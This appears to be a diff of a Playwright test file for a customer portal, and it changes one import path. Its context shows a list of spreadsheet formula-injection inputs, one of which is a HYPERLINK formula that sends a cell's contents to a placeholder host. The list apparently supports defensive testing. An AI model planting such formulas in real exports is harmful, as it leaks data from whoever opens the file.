@@ -12,7 +12,7 @@ from playwright.sync_api import Page
 
 from tests.portal.conftest import Open, Run
 from tests.portal.customer import Customer, now
-from tests.portal.test_page import settle, show
+from tests.portal.page import settle, show
 
 FORMULAS = [
     '=HYPERLINK("http://x.example?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "\t=1", " =1",
